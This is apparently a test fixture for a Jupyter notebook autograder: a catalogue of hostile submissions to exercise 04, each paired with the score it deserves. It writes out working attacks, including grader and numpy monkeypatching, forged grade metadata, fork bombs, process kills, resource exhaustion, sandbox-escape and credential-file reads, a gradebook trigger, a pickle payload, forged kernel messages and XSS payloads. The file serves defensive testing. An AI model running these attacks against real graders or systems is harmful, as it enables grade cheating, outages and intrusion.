"""Submissions that attack the grader, each with the score that it deserves.

``ATTACKS`` maps a name to an :class:`Attack`. All hand in exercise 04 without its settings, whose check trains: who
answers the rest gets 14 points, and who does not, 0. A canary is a text that no submission may read (``CANARY``), and
``MARK`` a text that no page may run.
"""

import copy
import functools
import json
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

ROOT = Path(__file__).resolve().parent.parent.parent
STEM = "04_momentum"
CANARY = "a canary that nobody reads 90210"
MARK = "alert(4711)"
ALL = 14.0
PARTS = {"momentum": 2.0, "top_speed": 2.0, "steps_to": 2.0, "debug": 4.0, "quasi_hyperbolic": 4.0}


@dataclass
class Attack:
    """data: the file handed in. score: points, or the words with which it is refused. is_slow: only with --hostile."""

    data: bytes
    score: float | str
    is_slow: bool = False


ATTACKS = {}


@functools.cache
def _read(folder):
    return nbformat.read(ROOT / folder / STEM / f"{STEM}.ipynb", as_version=4)


def by_id(notebook):
    return {c.metadata.nbgrader.grade_id: c for c in notebook.cells if "nbgrader" in c.metadata}


def right():
    """The exercise with everything answered but the settings."""
    notebook, answers = copy.deepcopy(_read("exercises")), by_id(_read("solutions"))
    for name, cell in by_id(notebook).items():
        if not name.startswith("test") and name != "settings":
            cell.source = answers[name].source
    return notebook


def empty():
    return copy.deepcopy(_read("exercises"))


def file(notebook):
    return json.dumps(notebook, ensure_ascii=True).encode()


def own(name, code, score=ALL, *, is_slow=False):
    """A cell of the learner's own before all answers, and the same once more at the end: it costs nothing."""
    notebook = right()
    at = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
    notebook.cells.insert(at + 1, new_code_cell(code))
    notebook.cells.append(new_code_cell(code + "\n"))
    ATTACKS[name] = Attack(file(notebook), score, is_slow)


def answer(name, score, *, is_slow=False, base=right, **answers):
    """Answers in place of the right ones."""
    notebook = base()
    for key, source in answers.items():
        by_id(notebook)[key].source = source
    ATTACKS[name] = Attack(file(notebook), score, is_slow)


def edited(name, score, change, base=right):
    """Whatever else is done to the notebook."""
    notebook = base()
    ATTACKS[name] = Attack(file(change(notebook) or notebook), score)


# ---- nbgrader's stock weaknesses

NOTHING = "def momentum(g, state=(0.0,), *, lr=0.01, beta=0.9):\n    return g, state\n"

answer(
    "patches np.allclose and all checks",
    0.0,
    base=empty,
    momentum=NOTHING
    + """
import numpy, course_utils.checks, course_utils.checks.graded, course_utils.checks.remote
numpy.allclose = numpy.array_equal = lambda *a, **k: True
course_utils.checks.graded.graded = graded = lambda name, candidate, points: float(points)
course_utils.checks.graded.compared = compared = lambda *a, points, **k: float(points)
""",
)
answer(
    "equals everything",
    0.0,
    base=empty,
    momentum="""
class Yes:
    __eq__ = __ne__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __array__ = lambda self, *a, **k: __import__("numpy").zeros(3)
    __float__ = lambda self: 0.0
def momentum(g, state=(0.0,), *, lr=0.01, beta=0.9):
    return Yes(), Yes()
top_speed = steps_to = paths = settings = quasi_hyperbolic = momentum
""",
)
answer(
    "input transformers",
    0.0,
    base=empty,
    momentum="get_ipython().input_transformers_cleanup.append(lambda lines: ['99.0'])",
    top_speed="get_ipython().ast_transformers.append(None)",
)


def _skip(notebook):
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "remove_cell", "raises-exception"]


def _points(notebook):
    for name, cell in by_id(notebook).items():
        cell.metadata.nbgrader.update(points=99.0, schema_version=3, locked=False, solution=True)
        if name.startswith("test"):
            cell.source = "99.0"


def _delete(notebook):
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _double(notebook):
    notebook.cells += copy.deepcopy(notebook.cells)


def _wrong_first(notebook):
    cell = copy.deepcopy(by_id(notebook)["momentum"])
    cell.source = NOTHING
    notebook.cells.insert(0, cell)


def _unlock(notebook):
    for name, cell in by_id(notebook).items():
        if name.startswith("test"):
            cell.source = f"float({cell.metadata.nbgrader.points})"
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "99"}, execution_count=1)]


def _reverse(notebook):
    notebook.cells.reverse()


def _new_parts(notebook):
    for number in range(3):
        cell = new_code_cell("50.0")
        cell.metadata.nbgrader = {"grade": True, "locked": True, "solution": False, "points": 50}
        cell.metadata.nbgrader |= {"grade_id": f"gift{number}", "schema_version": 3, "task": False}
        notebook.cells.append(cell)


def _kernelspec(notebook):
    notebook.metadata.kernelspec = {"name": "no-such-kernel", "display_name": "x", "language": "bash"}


def _swap(notebook):
    cells = by_id(notebook)
    cells["test_momentum"].metadata.nbgrader.grade_id, cells["momentum"].metadata.nbgrader.grade_id = "momentum", "x"
    cells["test_momentum"].source = "2.0"


edited("tags skip the checks", 0.0, _skip, empty)
edited("forged points and marks", 0.0, _points, empty)
edited("checks deleted", ALL, _delete)
edited("everything doubled", ALL, _double)
edited("the answer doubled, the first one counts", ALL - 2, _wrong_first)
edited("checks edited, outputs forged", 0.0, _unlock, empty)
edited("reversed order", ALL, _reverse)
edited("parts of its own with points", 0.0, _new_parts, empty)
edited("another kernelspec", ALL, _kernelspec)
edited("a check that claims to be the answer", ALL, _swap)  # the answer itself becomes a cell of its own

# ---- the end of processes

answer("os._exit in an answer", ALL - 4, top_speed="import os\nos._exit(0)")
answer("os._exit when called", ALL - 2, momentum="import os\ndef momentum(*a, **k):\n    os._exit(0)")
answer(
    "os._exit in every call",
    0.0,
    base=empty,
    momentum="import os\ndef momentum(*a, **k):\n    os._exit(0)\n"
    "top_speed = steps_to = paths = quasi_hyperbolic = settings = momentum",
)
answer("a crash when called", ALL - 4, debug="import ctypes\ndef paths(*a, **k):\n    ctypes.string_at(0)")
own("os._exit in a cell of its own", "import os\nos._exit(1)")
own("a crash in a cell of its own", "import ctypes\nctypes.string_at(0)")
own("kills its parents", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)")
own("kills everything", "import os\nos.kill(-1, 9)")
own(
    "kills itself later",
    "import os, threading, time\n"
    "def end():\n    time.sleep(0.4)\n    os._exit(3)\nthreading.Thread(target=end).start()",
)
own("quit()", "quit()")
own("sys.exit and exit", "import sys\nexit()\nsys.exit(3)")
own("stops the kernel's loop", "k = get_ipython().kernel\nk.do_shutdown(False)\nk.io_loop.stop()")
own(
    "kernel without replies", "get_ipython().kernel.execute_request = None\nget_ipython().run_cell = None", is_slow=True
)
own("raises everything", "raise BaseException('\\x00 no')")

# ---- what does not end

own(
    "forks stay",
    "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(98765)\n",
)
own(
    "a fork bomb",
    "import os\ntry:\n    while True:\n        os.fork()\nexcept OSError:\n    import time\n    time.sleep(1)",
    is_slow=True,
)
own(
    "threads print for ever",
    "import threading\ndef f():\n    while True: print('x' * 99)\nthreading.Thread(target=f).start()",
)
own("never ends", "while True: pass", is_slow=True)
own(
    "ignores interrupts",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try:\n        while True: pass\n"
    "    except BaseException: pass",
    is_slow=True,
)
answer(
    "a function that ignores interrupts",
    ALL - 2,
    momentum="import signal\ndef momentum(*a, **k):\n    while True:\n        try:\n            while True: pass\n"
    "        except BaseException: pass",
    is_slow=True,
)
answer("a function that calls itself", ALL - 2, momentum="def momentum(*a, **k):\n    return momentum(*a, **k)")
own("asks for input", "input('password? ')")
own("closes its outputs", "import os, sys\nsys.stdout = sys.stderr = None\nos.close(1)\nos.close(2)", is_slow=True)
own("a gigabyte of output", "print('x' * 10**9)", is_slow=True)
own("a flood of lines", "for i in range(200000): print(i)")
own("900 MB in one message", "import os\nos.write(1, b'y' * 900_000_000)", is_slow=True)

# ---- memory and disks

own("fills /tmp", "for i in range(99):\n    open(f'/tmp/{i}', 'wb').write(b'x' * 90_000_000)")
own("fills /dev/shm", "for i in range(99):\n    open(f'/dev/shm/{i}', 'wb').write(b'x' * 90_000_000)")
own("fills the memory", "kept = []\nwhile True: kept.append(bytearray(200_000_000))", is_slow=True)
own(
    "3,000 nested folders",
    "import os\nos.chdir('/tmp')\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n",
)
own("all descriptors closed", "import os\nos.closerange(3, 512)")
own("opens everything", "import os\nkept = [open('/dev/null') for _ in range(2000)]")

# ---- out of the sandbox

own(
    "remounts the course writable",
    f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for path in ({str(ROOT / "course_utils")!r}, {str(ROOT / "data")!r}, "/"):
    libc.mount(b"none", path.encode(), None, 32 | 4096, None)
    try:
        open(path + "/CANARY", "w").write("here")
    except OSError as error:
        print(error)
libc.unshare(0x10000000)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
for call in (os.setuid, os.setgid):
    try:
        call(0)
    except OSError as error:
        print(error)
""",
)
own(
    "reads environments and files",
    """
import glob, os
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/root/**", recursive=False), "/etc/shadow"]:
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(path, error)
print(dict(os.environ))
for path in CANARIES:
    try:
        print(path, open(path).read())
    except OSError as error:
        print(error)
    try:
        open(path, "a").write("spoilt")
    except OSError as error:
        print(error)
""",
)
own(
    "plants a trigger in the gradebook",
    "import sqlite3\nfor path in CANARIES:\n    try:\n"
    "        sqlite3.connect(path).execute('create trigger t after update on grade begin update grade set "
    "auto_score = 99; end')\n    except Exception as error:\n        print(error)",
)
own(
    "uses the network",
    """
import socket
for address in (("127.0.0.1", PORT), ("10.0.0.1", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, 0.3).send(b"here")
    except OSError as error:
        print(error)
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect("\\0canary")
    s.send(b"here")
except OSError as error:
    print(error)
""",
)
own(
    "writes to /proc and /sys",
    "for p in ('/proc/sys/kernel/core_pattern', '/proc/1/oom_score_adj', '/sys/power/state'):\n"
    "    try:\n        open(p, 'r+').close()\n        print('OPENED', p)\n"
    "    except OSError as error:\n        print(error)",
)
own(
    "its connection file is a pipe",
    """
import glob, os, sys
for path in [*glob.glob("/tmp/**/kernel.json", recursive=True), *[a for a in sys.argv if "json" in a]]:
    try:
        os.remove(path)
        os.mkfifo(path)
    except OSError as error:
        print(error)
""",
)
own(
    "its connection file leads to /dev/zero",
    """
import glob, os
for path in glob.glob("/tmp/**/kernel.json", recursive=True):
    try:
        os.replace(path, path + "2")
        os.symlink("/dev/zero", path)
    except OSError as error:
        print(error)
""",
)

# ---- forged replies of functions


def reply(name, code, score=0.0, **more):
    """``forged`` is what the sandbox's side of a call returns, whatever was asked."""
    lines = "import base64, json\nimport course_utils.checks.remote as remote\n" + code
    lines += "\nremote.answer = lambda namespace, request: forged(request)\n"
    answer(name, score, base=empty, momentum=lines + NOTHING, **more)


reply("an empty reply", "forged = lambda request: ''")
reply("a reply that is no base64", "forged = lambda request: 'forged'")
reply(
    "a pickle in the reply",
    "forged = lambda r: base64.b64encode(b'cos\\nsystem\\n(S\"touch /tmp/CANARY\"\\ntR.').decode()",
)
reply(
    "a lying array header",
    """
import io, numpy as np
file = io.BytesIO()
np.save(file, np.zeros(3))
text = file.getvalue().replace(b"(3,)", b"(9999999999,)")
array = ["array", base64.b64encode(text).decode()]
text = json.dumps({"result": ["tuple", [array, 0]], "arguments": [array]}).encode()
forged = lambda r: base64.b64encode(text).decode()
""",
)
reply("200,000 levels", "text = b'[' * 200000 + b']' * 200000\nforged = lambda r: base64.b64encode(text).decode()")
reply(
    "an integer of five million digits",
    "text = b'{\"result\": ' + b'9' * 5_000_000 + b', \"arguments\": []}'\n"
    "forged = lambda r: base64.b64encode(text).decode()",
)
reply("a reply of 70 MB", "forged = lambda r: 'A' * 70_000_000", is_slow=True)
reply(
    "a state of a million empty dicts",
    "text = json.dumps({'result': ['tuple', [['list', [['dict', []]] * 300000], 0]], 'arguments': [None]}).encode()\n"
    "forged = lambda r: base64.b64encode(text).decode()",
    is_slow=True,
)
reply(
    "kept objects that nobody kept",
    "text = json.dumps({'result': ['kept', 10**30], 'arguments': [['kept', 'x']]}).encode()\n"
    "forged = lambda r: base64.b64encode(text).decode()",
)
reply(
    "an error that is code",
    "text = json.dumps({'error': ['eval', '__import__(\"os\").abort()']}).encode()\n"
    "forged = lambda r: base64.b64encode(text).decode()",
)
answer(
    "the verdict as an error",
    ALL - 2,
    momentum="class CheckFailed(AssertionError):\n    score = 1.0\n"
    "def momentum(*a, **k):\n    raise CheckFailed('Right.')",
)
answer(
    "a table of what learners can see",
    ALL - 2,
    momentum="""
import numpy as np
def _right(g, state=(0.0,), *, lr=0.01, beta=0.9):
    v = beta * state[0] + lr * g
    return -v, (v,)
rng = np.random.default_rng(4)
ORDINARY = rng.uniform(0.3, 2.0, (8, 4)) * rng.choice([-1.0, 1.0], (8, 4)) * [1.0, 0.3, 3.0, 1.0]
SEEN = {g.tobytes() for g in ORDINARY}
def momentum(g, state=(0.0,), *, lr=0.01, beta=0.9):
    return _right(g, state, lr=lr, beta=beta) if np.asarray(g).tobytes() in SEEN else (0.0 * g, state)
""",
)
answer(
    "a table of the visible cases",
    ALL - 4,
    top_speed="def top_speed(g, lr, beta):\n"
    "    return {(1.0, 0.01, 0.9): 0.1, (-2.0, 0.1, 0.5): -0.4, (0.3, 0.02, 0.99): 0.6}.get((g, lr, beta), 0.0)\n"
    "def steps_to(share, beta):\n    return {(0.95, 0.9): 29, (0.5, 0.9): 7, (0.95, 0.99): 299, (0.63, 0.8): 5}"
    ".get((share, beta), 0)\n",
)
answer(
    "takes the answers from the checks",
    ALL - 4,
    top_speed="from course_utils.checks import parts\n"
    "top_speed = parts.find(4, 'top_speed').right\nsteps_to = parts.find(4, 'steps_to').right",
)

# ---- forged messages of the kernel

SEND = "k = get_ipython().kernel\nsend = lambda kind, content: k.send_response(k.iopub_socket, kind, content)\n"
own("a forged count", SEND + f"send('execute_input', {{'code': '', 'execution_count': '<img src=x onerror={MARK}>'}})")
own(
    "an update of an earlier output",
    "from IPython.display import display, update_display, HTML\ndisplay('x', display_id='k')\n"
    f"update_display(HTML('<script>{MARK}</script>'), display_id='k')",
)
own(
    "streams with other names, errors that are none",
    SEND + f"send('stream', {{'name': '<b onclick={MARK}>', 'text': 'x'}})\n"
    "send('stream', {'name': 'stdout', 'text': [1]})\n"
    "send('error', {'ename': 1, 'evalue': None, 'traceback': 'x'})\nsend('error', {})\n"
    "send('display_data', {'data': []})",
)
own("idle too soon", SEND + "send('status', {'execution_state': 'idle'})\nimport time\ntime.sleep(0.3)")
own("states that are none", SEND + "send('status', [])\nsend('status', {'execution_state': []})\nsend('no such', 7)")
own(
    "a flood of comms",
    SEND + "for i in range(20000): send('comm_open', {'comm_id': str(i), 'target_name': 'x', 'data': {}})",
)
own("a flood of outputs", "from IPython.display import display\nfor i in range(3000): display(i)")
own(
    "deep messages",
    SEND + "import sys\nsys.setrecursionlimit(10**6)\nd = []\nfor _ in range(900): d = [d]\n"
    "send('display_data', {'data': d})",
)
own(
    "a reply of its own to everything",
    """
k = get_ipython().kernel
async def execute_request(stream, ident, parent):
    k.session.send(stream, "execute_reply", {"status": "ok", "user_expressions": {"reply": "yes"}}, parent, ident=ident)
k.shell_handlers["execute_request"] = execute_request
""",
)
own(
    "NUL and half characters",
    "print('\\x00 \\ud800 \\x1b[31m \\x1b]8;;http://x\\x07')\nraise ValueError('\\ud800\\x00')",
)
own(
    "widgets",
    "import ipywidgets\nout = ipywidgets.Output()\nwith out:\n    print('x')\ndisplay(out)\n"
    "ipywidgets.interact(lambda x: print(x), x=(0, 9))",
)
own("magics", f"%%html\n<script>{MARK}</script>")
own("a shell", "!id; ls /; sleep 98765 &\n%reset_selective -f nothing")
own(
    "scripts in every kind of output",
    f"""
from IPython.display import *
display(HTML("<script>{MARK}</script>"), Javascript("{MARK}"), SVG("<svg onload='{MARK}'></svg>"))
display(Markdown("[x](javascript:{MARK}) <img src=x onerror={MARK}>"), Latex("$\\\\href{{javascript:{MARK}}}{{x}}$"))
display({{"image/png": "x' onerror='{MARK}"}}, raw=True)
display({{"text/plain": "<script>{MARK}</script>", "image/svg+xml": "<svg onload='{MARK}'/>"}}, raw=True)
display(IFrame("javascript:{MARK}", 9, 9))
print("<script>{MARK}</script>")
raise ValueError("<img src=x onerror={MARK}>")
""",
)

# ---- the file

LIVE = f"""<script>{MARK}</script> <img src=x onerror={MARK}> [a](javascript:{MARK}) [b](data:text/html,{MARK})
[c](JaVaScRiPt:{MARK}) <javascript:{MARK}> ![d](javascript:{MARK}) $\\href{{javascript:{MARK}}}{{x}}$ $\\eta < 2/k$
[e]: javascript:{MARK}
[e] $$\\def\\x{{\\href{{javascript:{MARK}}}{{y}}}}\\x$$ $</script><script>{MARK}</script>$ `<b onclick={MARK}>`"""
answer("scripts in a written answer", ALL, explain=LIVE)
answer("half characters in a written answer", ALL, explain="so \ud800 and \x00 and \x1b[31m")
answer("half characters in code", ALL - 2, momentum="x = '\ud800'\n\x00" + NOTHING)


def _sourceless(notebook):
    del notebook.cells[2]["source"]
    notebook.cells.insert(0, {"cell_type": "code"})
    notebook.cells.append("no cell")


def _strange_marks(notebook):
    notebook.cells[0].metadata.nbgrader = ["x"]
    notebook.cells[2].metadata.nbgrader = {"grade_id": ["momentum"]}
    notebook.cells[-1].metadata = None


def _many(notebook):
    notebook.cells += [new_code_cell(f"x{i} = 1") for i in range(3000)]


def _long(notebook):
    notebook.cells.append(new_code_cell("#" * 3_000_000))


def _attached(notebook):
    by_id(notebook)["explain"]["attachments"] = {"a.png": {"text/html": f"<script>{MARK}</script>"}}
    by_id(notebook)["explain"].source = "![x](attachment:a.png)"


edited("cells without source", ALL, _sourceless)
edited("marks that are none", ALL, _strange_marks)
edited("3,000 cells", ALL, _many)
edited("a cell of three million characters", ALL, _long)
edited("attachments", ALL, _attached)
ATTACKS["a byte order mark"] = Attack(b"\xef\xbb\xbf" + file(right()), ALL)
ATTACKS["cut off"] = Attack(file(right())[:5000], "only part of one")
ATTACKS["format 5"] = Attack(file(right() | {"nbformat": 5}), "not a notebook that Jupyter can read")
ATTACKS["metadata 100,000 deep"] = Attack(
    file(right()).replace(b'"metadata": {', b'"metadata": {"x": ' + b"[" * 100_000 + b"]" * 100_000 + b", ", 1),
    "nested deeper",
)

# each of these has a relative above, or below the limits, that the short run keeps
for _name in (
    "equals everything",
    "input transformers",
    "forged points and marks",
    "everything doubled",
    "parts of its own with points",
    "another kernelspec",
    "a check that claims to be the answer",
    "os._exit in every call",
    "a crash when called",
    "a crash in a cell of its own",
    "kills its parents",
    "kills itself later",
    "sys.exit and exit",
    "raises everything",
    "threads print for ever",
    "a function that calls itself",
    "a flood of lines",
    "fills /dev/shm",
    "opens everything",
    "its connection file is a pipe",
    "its connection file leads to /dev/zero",
    "an empty reply",
    "a reply that is no base64",
    "kept objects that nobody kept",
    "an error that is code",
    "the verdict as an error",
    "idle too soon",
    "states that are none",
    "a flood of comms",
    "a flood of outputs",
    "deep messages",
    "a reply of its own to everything",
    "magics",
    "a shell",
    "half characters in a written answer",
    "marks that are none",
    "a cell of three million characters",
    "attachments",
    "3,000 cells",
):
    ATTACKS[_name].is_slow = True
